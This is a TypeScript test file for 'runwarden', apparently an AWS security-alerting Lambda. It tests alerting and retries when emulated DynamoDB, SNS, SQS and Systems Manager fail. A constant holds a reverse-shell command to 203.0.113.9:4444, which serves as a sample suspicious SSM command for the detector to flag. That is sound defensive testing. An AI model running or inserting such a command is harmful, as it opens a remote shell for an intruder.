import {
  heartbeatEvent,
  MACHINE,
  nextId,
  queueEvent,
  sendCommandEvent,
  startSessionEvent,
} from '../../support/aws-events'
import { startAwsWorld, taken, type AwsWorld } from '../../support/aws-world'
import type { Mail } from '../../emulators/mailbox'

const SHELL = 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'

let world: AwsWorld

beforeAll(async () => {
  world = await startAwsWorld()
})

afterAll(() => world.stop())

afterEach(async () => {
  for (const plan of Object.values(world.faults)) plan.up()
  await world.clear()
  await world.alerts.read()
  await world.operations.read()
})

/** A command that alerts without any history, and whose text the service knows. */
const shellCommand = (role = 'Deploy') => {
  const commandId = nextId()
  world.ssm.state.commands.push({
    CommandId: commandId,
    DocumentName: 'AWS-RunShellScript',
    Parameters: { commands: [SHELL] },
  })
  return sendCommandEvent({ commandId, role })
}

const alertIdIn = ({ body }: Mail): string | undefined => /^Alert ([0-9a-f]{32})$/m.exec(body)?.[1]

const textLine = async (): Promise<string | undefined> =>
  /^ {2}No text +(.*(?:\n {18}.*)*)/m
    .exec((await world.alerts.read({ atLeast: 1 }))[0]?.body ?? '')?.[1]
    ?.replaceAll(/\s+/g, ' ')

describe('a record that cannot be read', () => {
  const unreadable = () => {
    const event = startSessionEvent(MACHINE)
    return { ...event, detail: { ...(event.detail as object), eventTime: 'yesterday' } }
  }

  it('goes to quarantine, is counted, and does not stop its neighbours', async () => {
    await world.deliver({ Records: [unreadable().detail, startSessionEvent(MACHINE).detail] })
    expect(await world.alerts.read({ atLeast: 1 })).toHaveLength(1)
    expect(world.logs().at(-1)).toMatchObject({ RecordsQuarantined: 1, AlertsSent: 1 })
    const [message = ''] = await world.peek(world.queues.quarantine)
    expect(JSON.parse(message)).toMatchObject({
      schema: 'runwarden.quarantined/1',
      reason: expect.any(String),
      body: { eventTime: 'yesterday' },
    })
  })

  it('is tried again when the quarantine cannot be reached', async () => {
    world.faults.messages.failAfter(0, 'error', { operation: 'sqs:SendMessage' })
    expect(await world.lambda.invoke(unreadable())).toMatchObject({ ok: false })
    world.faults.messages.up()
    expect(await world.lambda.invoke(unreadable())).toMatchObject({ ok: true })
  })

  it('of any size fits into a message, whole', async () => {
    const { detail, ...event } = unreadable()
    const large = { ...(detail as object), requestParameters: { target: MACHINE, reason: 'r\uffff'.repeat(200_000) } }
    await world.deliver({ ...event, detail: large })
    const messages = (await world.peek(world.queues.quarantine)).map(
      (message) => JSON.parse(message) as { readonly packed?: string },
    )
    const packed = messages.find((message) => message.packed !== undefined)
    expect(packed).toBeDefined()
    // Sent again, it is read as it was, and found as unreadable as before.
    const before = (await world.peek(world.queues.quarantine)).length
    expect(await world.deliver(queueEvent([packed]))).toEqual({ batchItemFailures: [] })
    expect((await world.peek(world.queues.quarantine)).length).toBe(before + 1)
  })
})

describe('a table that is down', () => {
  it('lets out what needs no history, marked; the record is tried again and judged in full', async () => {
    const call = shellCommand()
    world.faults.dynamo.down()
    expect(await world.lambda.invoke(call)).toMatchObject({ ok: false, errorType: 'JudgedDegraded' })
    const [degraded] = await world.alerts.read({ atLeast: 1 })
    expect(degraded?.attributes['rule']).toBe('["runwarden.cloud.suspicious-command"]')
    expect(degraded?.body).toContain('history could not be read')
    expect(await world.lambda.invoke(call)).toMatchObject({ ok: false })
    expect(await world.alerts.read()).toEqual([])
    world.faults.dynamo.up()
    await world.deliver(call)
    const [full] = await world.alerts.read({ atLeast: 1 })
    expect(full?.attributes['rule']).toContain('first-seen-caller')
    expect(full?.body).not.toContain('history could not be read')
    expect(alertIdIn(full!)).toBe(alertIdIn(degraded!))
  })

  it('keeps first-seen findings silent: nobody is new because nothing can be read', async () => {
    world.faults.dynamo.down()
    expect(await world.lambda.invoke(startSessionEvent(MACHINE))).toMatchObject({ ok: false })
    expect(await world.alerts.read()).toEqual([])
  })

  it.each(['throttle', 'reset', 'timeout', 'failed-answer'] as const)(
    'for one call (%s) is not noticed by anybody',
    async (kind) => {
      world.faults.dynamo.failAfter(0, kind, { operation: 'dynamodb:BatchGetItem', times: 1 })
      world.faults.dynamo.failAfter(0, kind, { operation: 'dynamodb:PutItem', times: 1 })
      await world.deliver(startSessionEvent(MACHINE, { role: `Role-${kind}` }))
      const mails = await world.alerts.read({ atLeast: 1 })
      expect(mails.map(({ subject }) => subject)).toEqual([expect.stringContaining('First Seen Caller')])
    },
  )
})

describe('a topic that is down', () => {
  it('makes the function fail; the next delivery sends, under the same alert id', async () => {
    const call = shellCommand()
    world.faults.messages.failAfter(0, 'failed-answer', { operation: 'sns:Publish' })
    expect(await world.lambda.invoke(call)).toMatchObject({ ok: false, errorType: 'NothingSent' })
    world.faults.messages.up()
    const lost = await world.alerts.read()
    await world.deliver(call)
    const mails = await world.alerts.read({ atLeast: 1 })
    expect(new Set([...lost, ...mails].map(alertIdIn)).size).toBe(1)
    await world.deliver(call)
    expect(await world.alerts.read()).toEqual([])
  })

  it('is tried again alone for as long as another one takes the alert', async () => {
    const container = await world.another({ RUNWARDEN_JSON_TOPIC_ARN: world.topics.json })
    const { json } = world
    // Mail and JSON go out at once; the first call to come passes, and every try of the other fails.
    world.faults.messages.failAfter(1, 'error', { operation: 'sns:Publish' })
    taken(await container.invoke(shellCommand('TwoTopics')))
    world.faults.messages.up()
    const early = [...(await world.alerts.read()), ...(await json.read())]
    expect(early).toHaveLength(1)
    await world.hasten()
    taken(await container.invoke(heartbeatEvent()))
    const late = [...(await world.alerts.read()), ...(await json.read())]
    expect(late).toHaveLength(1)
    taken(await container.invoke(heartbeatEvent()))
    expect([...(await world.alerts.read()), ...(await json.read())]).toEqual([])
  })
})

describe('Systems Manager', () => {
  it('that throttles costs the text, not the alert', async () => {
    world.faults.ssm.failAfter(0, 'throttle', { operation: 'ssm:ListCommands' })
    await world.deliver(shellCommand())
    expect(await textLine()).toBe('text not available: ListCommands was throttled')
  })

  it('is asked again by the heartbeat, so that keeping it busy hides nothing', async () => {
    world.faults.ssm.failAfter(0, 'throttle', { operation: 'ssm:ListCommands' })
    await world.deliver(shellCommand())
    const [first] = await world.alerts.read({ atLeast: 1 })
    world.faults.ssm.up()
    await world.hasten()
    await world.deliver(heartbeatEvent())
    const [second] = await world.alerts.read({ atLeast: 1 })
    expect([first, second].map((mail) => mail?.attributes['rule']?.includes('suspicious-command'))).toEqual([
      false,
      true,
    ])
    expect(alertIdIn(second!)).toBe(alertIdIn(first!))
  })

  it('that never answers costs the text, not the alert', async () => {
    world.faults.ssm.failAfter(0, 'timeout', { operation: 'ssm:ListCommands' })
    await world.deliver(shellCommand())
    expect(await textLine()).toBe('text not available: ListCommands did not answer in time')
  })

  it('that does not know the command at first is asked again', async () => {
    world.ssm.state.emptyFor = 2
    await world.deliver(shellCommand())
    world.ssm.state.emptyFor = 0
    const [mail] = await world.alerts.read({ atLeast: 1 })
    expect(mail?.attributes['rule']).toContain('suspicious-command')
  })

  it('of a member account without a role costs the text, not the alert', async () => {
    await world.deliver(sendCommandEvent({ account: '111122223333' }))
    expect(await textLine()).toBe('text not available: no role is configured to read in account 111122223333')
  })
})

describe('settings that cannot be read', () => {
  it('fall back to their defaults, with one notice that names them all', async () => {
    const container = await world.another({
      RUNWARDEN_MASS_TARGETS: 'many',
      RUNWARDEN_SUPPRESSIONS: 'ssm:/runwarden/missing',
    })
    taken(await container.invoke(startSessionEvent(MACHINE)))
    taken(await container.invoke(startSessionEvent(MACHINE)))
    const notices = await world.operations.read({ atLeast: 1 })
    expect(notices.map(({ subject }) => subject)).toEqual(['[RUNWARDEN] Settings cannot be read'])
    expect(notices[0]?.body).toMatch(/RUNWARDEN_MASS_TARGETS[^]*RUNWARDEN_SUPPRESSIONS/)
    expect(await world.alerts.read({ atLeast: 1 })).not.toEqual([])
  })

  it('in a parameter are followed to it', async () => {
    world.ssm.state.parameters.set(
      '/runwarden/suppressions',
      JSON.stringify([{ caller: 'aws:123456789012:role/Quiet', reason: 'a test', until: '2099-01-01' }]),
    )
    const container = await world.another({ RUNWARDEN_SUPPRESSIONS: 'ssm:/runwarden/suppressions' })
    taken(await container.invoke(startSessionEvent(MACHINE, { role: 'Quiet' })))
    expect(await world.alerts.read()).toEqual([])
    taken(await container.invoke(startSessionEvent(MACHINE, { role: 'Loud' })))
    expect(await world.alerts.read({ atLeast: 1 })).toHaveLength(1)
  })

  it.each(['RUNWARDEN_TOPIC_ARN', 'RUNWARDEN_TABLE', 'RUNWARDEN_QUARANTINE_QUEUE_URL'])(
    'are fatal only where nothing works without them: %s',
    async (name) => {
      const container = await world.another({ [name]: '' })
      expect(await container.invoke(startSessionEvent(MACHINE))).toMatchObject({
        ok: false,
        errorMessage: expect.stringContaining(`${name} is not set`),
      })
    },
  )
})
